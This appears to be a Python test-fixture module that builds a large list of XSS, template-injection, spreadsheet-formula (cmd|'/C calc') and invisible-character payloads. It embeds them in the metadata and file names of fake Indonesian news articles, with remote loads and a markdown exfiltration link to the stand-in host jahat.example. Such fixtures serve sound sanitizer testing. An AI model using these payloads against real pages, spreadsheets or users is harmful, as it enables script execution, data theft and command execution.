"""A hundred texts that would be more than text on a careless page, and an archive full of them.

``GROUPS`` are the same texts a few at a time, as many as a metadata value holds: an archive of a dozen
articles then carries every payload in title, text, outlet, author, URL and date.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence

HOST = "jahat.example"  # whatever is asked of it has left the machine
SCRIPTS = (
    "<script>alert(1)</script>",
    f"<script src=//{HOST}/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<script type=module>import('x')</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<dialog open onbeforetoggle=alert(1)>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://contoh/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"//{HOST}/a",
    f"/\\{HOST}/a",
    f"https://{HOST}@contoh.example/",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    f"<base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/a.css>",
    f"<link rel=prefetch href=//{HOST}/a>",
)
DRAWINGS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><img src=x onerror=alert(1)>",
    f"<svg><use href=//{HOST}/a.svg#x>",
    f"<svg><image href=//{HOST}/a.png>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<svg><style><img src=x onerror=alert(1)></style>",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{%if 1%}x{%endif%}",
    "#{7*7}",
    "<%= 7*7 %>",
    "`${alert(1)}`",
    "${`${alert(1)}`}",
    "{{value}} ${value}",
    "</div>${value}",
    "{0} {title} %s %(x)s",
    "@{7*7} *{7*7} ~{7*7}",
)
BREAKS = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '"/><svg onload=alert(1)>',
    "</mark></bdi></p><img src=x onerror=alert(1)>",
    "</details></section><b onclick=alert(1)>",
    "-->",
    "<!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "]]><script>alert(1)</script>",
    "<b",
    "<textarea>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<custom-tag onclick=alert(1)>",
)
LOADS = (
    f"<iframe src=//{HOST}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    f"<object data=//{HOST}/a></object>",
    f"<embed src=//{HOST}/a>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
    f"<p style=background:url(//{HOST}/a.png)>x",
    f"<style>@import '//{HOST}/a.css'</style>",
    f"<img src=//{HOST}/a.png>",
    f"<img srcset='//{HOST}/a.png 1x'>",
    f"<video poster=//{HOST}/a.png>",
    f"![x](https://{HOST}/a.png)",
    f"[x](https://{HOST}/?q=rahasia)",
    "[x](javascript:alert(1))",
    f"![x][1] [1]: https://{HOST}/a.png",
)
FORMULAS = (
    "=HYPERLINK(\"https://jahat.example\";\"x\")",
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "＝1+1",
)  # fmt: skip
UNSEEN = (
    "\u202e>1=rorrene x=crs gmi<",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u00adimg src=x onerror=alert(1)>",
    "\ufeff<svg onload=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src=x one\u0000rror=alert(1)>",
    "\u001b[31m<b>\u001b[0m",
)
PAYLOADS = (
    *SCRIPTS, *HANDLERS, *ADDRESSES, *DRAWINGS, *TEMPLATES, *BREAKS, *LOADS, *FORMULAS, *UNSEEN,
)  # fmt: skip
# What is metadata is cut after so many characters; two of a group stand apart.
_MOST, _APART = 440, " ¦ "


def _grouped(texts: Sequence[str]) -> Iterator[str]:
    group = ""
    for text in texts:
        if group and len(group) + len(_APART) + len(text) > _MOST:
            yield group
            group = ""
        group = f"{group}{_APART}{text}" if group else text
    yield group


GROUPS = tuple(_grouped(PAYLOADS))


def parts(group: str) -> list[str]:
    """Return the payloads of a group."""
    return group.split(_APART)


def place(n: int) -> str:
    """Return what the ``n``-th article alone is about."""
    first = ("Cempaka", "Melati", "Kenanga", "Dahlia", "Seruni", "Teratai", "Anggrek", "Mawar")
    second = ("Tanjungsari", "Wanasari", "Sukamaju", "Randuwangi", "Lintangbaru", "Tirtapura", "Bukitkelam")
    return f"{first[n % 8]} {second[n // 8 % 7]}"


def saying(n: int, payload: str) -> str:
    """Return what is quoted in the ``n``-th article."""
    return f"Layangan {place(n)} terbang tinggi {payload} sekali hari ini"


def article(n: int, payload: str) -> str:
    """Return an article with ``payload`` in everything that an article states, and in what is said in it."""
    value = json.dumps(payload)
    address = json.dumps(f"https://contoh.example/{''.join(payload.split())}")
    lines = payload.replace("\n", " ").replace("\0", "")  # NULs would make it no text
    return f"""---
title: {value}
outlet: {value}
author: {value}
date: {value}
url: {address}
{json.dumps(payload[:57])}: x
---
Festival {place(n)} dibuka oleh Camat {place(n)}, Wira Kusuma, pada hari Jumat. {lines}

"{saying(n, lines.replace('"', "'"))}," kata Wira Kusuma di {place(n)}.
"""


def file_name(payload: str, ending: str) -> str:
    """Return a payload as the name of a file, as far as names can hold it."""
    return payload.replace("/", "∕").replace("\0", "")[:60] + ending


def articles(groups: Sequence[str] = GROUPS) -> dict[str, str]:
    """Return an article a group, in a file named by the group's first payload."""
    # A control character in an article's name is a reason to refuse it.
    names = ["".join(c if c >= " " else "·" for c in parts(group)[0]) for group in groups]
    return {file_name(names[n], f"-{n}.txt"): article(n, group) for n, group in enumerate(groups)}


def bad_files() -> dict[str, str]:
    """Return a file that is to be refused for each payload, named by it."""
    return {file_name(p, f"-{n}.pdf"): "%PDF-1.4 terpotong" for n, p in enumerate(PAYLOADS)}
